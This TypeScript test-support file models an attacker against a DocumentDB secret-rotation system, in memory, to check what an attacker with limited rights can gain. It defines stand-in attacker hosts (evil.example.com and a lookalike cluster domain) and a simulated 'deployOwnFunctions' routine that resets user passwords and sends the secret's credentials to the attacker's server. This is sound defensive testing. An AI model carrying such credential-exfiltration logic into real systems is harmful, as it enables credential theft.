import { NotAuthorizedError } from '../../../functions/contract/errors.ts';
import { PROVEN_TAG } from '../../../functions/contract/tags.ts';
import type { Database, Session } from '../../../functions/database/database.ts';
import type { Login } from '../../../functions/secret/secret-value.ts';
import { versionIdsOf } from '../../../functions/secret/version-ids.ts';
import { CLUSTER, INSTANCES, PORT, READ_WRITE, ROOT } from '../../support/in-memory-database.ts';
import { newPassword } from '../../support/in-memory-secret-store.ts';
import { PortCalls } from '../../support/port-calls.ts';
import {
  executionArn,
  RecoveryMachine,
  RetirementMachine,
  RotationMachine,
  stoppedEvent,
} from '../../support/rotation-machine.ts';
import { begunByService, portsOf } from '../../support/rotation-steps.ts';
import { ADMIN_SECRET, RotationWorld, SECRET, secretText } from '../../support/rotation-world.ts';
import { type Ending, ExecutionAbortedError } from '../../support/state-machine.ts';
import { type Act, type AnyArena, type Credential, refuseWithout } from './any-arena.ts';
import { gainsIn, LITTLE } from './gains.ts';
import type { Right, Want } from './rights.ts';
import type { ArenaOptions } from './worlds.ts';

/** A server of the attacker's. It lets everyone in, and has every user. The worst of all: in the very domain of the secret's cluster. */
export const EVIL_HOST = 'evil.cluster-abcdefgh.eu-central-1.docdb.amazonaws.com';

/** The same outside that domain: nothing goes there once a rotation has ended well. */
export const FAR_HOST = 'evil.example.com';

/** The attacker's own user of the cluster, of little power. */
export const OWN_USER = 'mallory';

/** Of another application. */
export const OTHER_USER = 'billing';

/** A fresh world in memory, and what the attacker may do in it. */
export class Arena implements AnyArena {
  readonly adminUser = 'root';
  readonly otherUser = OTHER_USER;
  readonly ownUser = OWN_USER;
  readonly adminSecret = ADMIN_SECRET;
  readonly evil = { host: EVIL_HOST };
  readonly world: RotationWorld;
  readonly user: string;
  readonly pairUser: string;
  readonly #rights: readonly Right[];
  /** Credentials that the attacker knows; never one that the attacker made up and the database does not have. */
  readonly #known: Credential[] = [];
  /** Those that were read: to log in with these is what reading gives. */
  readonly #readOnes = new Set<string>();
  readonly ownPassword = newPassword();
  /** Passwords that came to the attacker's server and were not written by the attacker, nor made for it. */
  readonly #caught: string[] = [];
  readonly #genuine: () => readonly string[];
  readonly #before: Readonly<Record<string, string>>;
  readonly #gainedBefore = new Set<Want>();
  #number = 0;
  /** Whether the moment of an attack came. */
  wasReached = false;

  constructor(rights: readonly Right[], { options, pair, wasRotated }: ArenaOptions) {
    this.#rights = rights;
    this.wasRotated = wasRotated;
    this.world = new RotationWorld(options);
    const { database, clusters } = this.world;
    this.user = options.username ?? 'app';
    this.pairUser = `${this.user}_clone`;
    database.addUser(OWN_USER, this.ownPassword, LITTLE);
    database.addUser(OTHER_USER, newPassword(), READ_WRITE);
    if (database.user('root') === undefined) database.addUser('root', newPassword(), ROOT, true);
    if (pair === 'someone else’s') database.addUser(this.pairUser, newPassword(), READ_WRITE);
    if (pair === 'the attacker’s') database.addUser(this.pairUser, this.ownPassword, LITTLE);
    this.isPairForeign = pair === 'someone else’s';
    this.#isPairMine = pair === 'the attacker’s';
    this.#known.push({ username: OWN_USER, password: this.ownPassword });
    if (this.#isPairMine) this.#known.push({ username: this.pairUser, password: this.ownPassword });
    clusters.primaryUser = options.cluster === undefined ? 'root' : this.user;
    this.#genuine = () => database.usernames().map((name) => database.user(name)?.password ?? '');
    this.#before = this.#others();
    this.#listen();
  }

  readonly isPairForeign: boolean;
  readonly #isPairMine: boolean;
  readonly wasRotated: boolean;

  #need(right: Right): void {
    refuseWithout(this.#rights, right);
  }

  /** PutSecretValue: any keys, label and version id. */
  write(
    keys: Readonly<Record<string, unknown>> | string,
    label: string | string[] = 'AWSCURRENT',
    id = this.world.store.nextVersionId(),
  ): string {
    this.#need('write');
    const value = typeof keys === 'string' ? keys : secretText({ username: this.user, ...keys });
    const labels = typeof label === 'string' ? [label] : label;
    this.world.store.putWithId(SECRET, id, value, labels);
    return id;
  }

  /** A password of the attacker's own, with which they try to log in later. */
  mine(username = this.user): Credential {
    const credential = { username, password: newPassword() };
    this.#known.push(credential);
    return credential;
  }

  /** GetSecretValue, of every version. */
  read(): Credential[] {
    this.#need('read');
    const versions = this.world.store.versionIds(SECRET);
    const found = versions.flatMap((version) => this.world.credentialOf(version) ?? []);
    this.#known.push(...found);
    for (const { password } of found) this.#readOnes.add(password);
    return found;
  }

  /** TagResource. */
  tag(key: string, value: string): void {
    this.#need('tag');
    this.world.store.setTag(SECRET, `docdb-rotation:${key}`, value);
  }

  tagProven(...versions: string[]): void {
    this.#need('tag');
    this.world.store.setTag(SECRET, PROVEN_TAG, versions.join(' '));
  }

  /** StartExecution of the rotation, by any name. */
  start(input: object = {}, name = this.nextName(), calls = new PortCalls()): Promise<Ending> {
    this.#need('start');
    return this.#rotate(input, name, calls);
  }

  /** StartExecution of the retirement. */
  async retire(input: object): Promise<Ending> {
    this.#need('start');
    return await new RetirementMachine(this.world, { calls: new PortCalls() }).run(
      executionArn(this.nextName(), 'retirement'),
      { secretId: SECRET, graceSeconds: 0, ...input },
    );
  }

  /** StartExecution of the recovery. */
  recover(input: object = {}): Promise<Ending> {
    this.#need('recover');
    return this.#recover({ secretId: SECRET, ...input });
  }

  /** They set a password of every user, more roles of the attacker's own, and send what they read anywhere. */
  async deployOwnFunctions(): Promise<void> {
    this.#need('deploy');
    const { database } = this.world;
    for (const name of database.usernames()) {
      const credential = { username: name, password: newPassword() };
      const user = database.user(name);
      database.addUser(name, credential.password, name === OWN_USER ? READ_WRITE : (user?.roles ?? []));
      this.#known.push(credential);
    }
    await this.#sendToOwnHost();
  }

  async #sendToOwnHost(): Promise<void> {
    const { secrets, database } = portsOf(this.world);
    const current = await secrets.readCurrent(this.world.secretArn);
    const { username, password } = JSON.parse(current?.text ?? '{}');
    this.world.database.addUser(username, password, []);
    await database.login({ host: EVIL_HOST, port: PORT, tls: true, username, password });
    this.world.database.removeUser(username);
  }

  versions(): string[] {
    return this.world.store.versionIds(SECRET);
  }

  current(): string {
    return this.world.store.holder(SECRET, 'AWSCURRENT') ?? '';
  }

  executionArn(name: string): string {
    return executionArn(name);
  }

  eventOf(name: string): object {
    return stoppedEvent(executionArn(name), { secretId: SECRET });
  }

  /** The version ids of an execution, which the one who chooses its name can compute. */
  idsOf(name: string): readonly string[] {
    return versionIdsOf(executionArn(name));
  }

  /** What honest people and schedules do, sooner or later. */
  readonly honest = {
    /** A rotation on demand; something may happen before one of its calls. */
    rotate: (at?: number, act?: Act, mode = 'rotate', name = this.nextName()): Promise<Ending> =>
      this.#rotate(mode === 'rotate' ? {} : { mode }, name, this.#meanwhile(at, act)),
    /** By Secrets Manager's schedule. */
    scheduled: async (at?: number, act?: Act): Promise<Ending | undefined> => {
      const name = `${this.nextName()}-1`;
      try {
        const token = await begunByService(this.world, executionArn(name));
        return await this.#rotate({ token }, name, this.#meanwhile(at, act));
      } catch {
        return undefined;
      }
    },
    recover: (input: object = {}): Promise<Ending> => this.#recover({ secretId: SECRET, ...input }),
    putBack: (version: string): void => {
      const from = this.current();
      if (from !== version) this.world.store.move(SECRET, 'AWSCURRENT', { from, to: version });
    },
  };

  /** Of an execution: the same ones in each arena. */
  nextName(): string {
    this.#number += 1;
    return `run-${this.#number}`;
  }

  #meanwhile(at: number | undefined, act: Act | undefined): PortCalls {
    let call = 0;
    return new PortCalls({
      turn: async () => {
        call += 1;
        if (call !== at) return;
        this.wasReached = true;
        await act?.();
      },
    });
  }

  async #rotate(input: object, name: string, calls: PortCalls): Promise<Ending> {
    const arn = executionArn(name);
    const full = { secretId: SECRET, ...input };
    const machine = new RotationMachine(this.world, { calls });
    const ending = await endOf(machine.run(arn, full));
    this.#note();
    await this.#retireAfter(machine);
    // The rule for executions that ended without compensation.
    if (ending.error === 'RotationSupersededError')
      await this.#recover({ ...stoppedEvent(arn, full, 'FAILED'), error: ending.error });
    return ending;
  }

  async #retireAfter(machine: RotationMachine): Promise<void> {
    for (const request of machine.retirements) {
      const { Input } = request as { Input: unknown };
      const input = typeof Input === 'string' ? JSON.parse(Input) : Input;
      const { AWS_STEP_FUNCTIONS_STARTED_BY_EXECUTION_ID: _, ...rest } = input;
      const arn = executionArn(this.nextName(), 'retirement');
      await endOf(new RetirementMachine(this.world, { calls: new PortCalls() }).run(arn, rest));
    }
  }

  async #recover(input: object): Promise<Ending> {
    const arn = executionArn(this.nextName(), 'recovery');
    const ending = await endOf(new RecoveryMachine(this.world, { calls: new PortCalls() }).run(arn, input));
    this.#note();
    return ending;
  }

  /** What the attack has come to, at the end or at the end of an execution. */
  gained(): Want[] {
    return [...new Set([...this.#gainedBefore, ...this.#gainedNow()])];
  }

  /** An outage counts only if it lasts. */
  #note(): void {
    for (const want of this.#gainedNow()) if (want !== 'outage') this.#gainedBefore.add(want);
  }

  #gainedNow(): Want[] {
    const { database } = this.world;
    const others = this.#others();
    return gainsIn({
      user: this.user,
      pairUser: this.pairUser,
      otherUser: OTHER_USER,
      adminUser: this.adminUser,
      mine: [OWN_USER, ...(this.#isPairMine ? [this.pairUser] : [])],
      isPairForeign: this.isPairForeign,
      accepted: this.#known.filter((credential) => database.accepts(credential)),
      readOnes: this.#readOnes,
      rolesOf: (name) => database.user(name)?.roles ?? [],
      isCaught: this.#caught.length > 0,
      isTouched: Object.entries(this.#before).some(([name, user]) => others[name] !== user),
      currentLogsIn: this.world.logsIn(this.current()),
    });
  }

  /** Users that are not the secret's own, as they stand in the database. */
  #others(): Record<string, string> {
    const { database } = this.world;
    const foreign = [OTHER_USER, 'root', ...(this.isPairForeign ? [this.pairUser] : [])];
    return Object.fromEntries(foreign.map((name) => [name, JSON.stringify(database.user(name) ?? null)]));
  }

  /** The attacker's server stands where the database in memory has none. */
  #listen(): void {
    const { database } = this.world;
    const original = database.port.bind(database);
    database.port = (gate) => {
      const port: Database = original(gate);
      return {
        login: async (login) => {
          const host = login.host.toLowerCase();
          if (host === CLUSTER || INSTANCES.includes(host)) return await port.login({ ...login, host });
          return this.#evilSession(login);
        },
      };
    };
  }

  #evilSession(login: Login): Session {
    if (this.#genuine().includes(login.password)) this.#caught.push(login.password);
    return {
      ping: async () => {},
      instances: async () => [{ host: login.host, port: PORT }],
      takesWrites: async () => 'here',
      ownRoles: async () => ROOT,
      findUser: async () => ({ roles: ROOT }),
      createUser: async () => {},
      // So that the admin's power is asked for.
      updateUser: async (username) => {
        if (username === OTHER_USER) throw new NotAuthorizedError(`"${username}" may not change users`);
      },
      dropUser: async () => {},
      [Symbol.asyncDispose]: async () => {},
    };
  }
}

/** An execution that came to no end of its own is no end of the attack. */
const endOf = async (running: Promise<Ending>): Promise<Ending> => {
  try {
    return await running;
  } catch (error) {
    if (!(error instanceof ExecutionAbortedError)) throw error;
    return { status: 'FAILED', error: 'aborted', path: [], inputs: [], performed: [], trail: [] };
  }
};
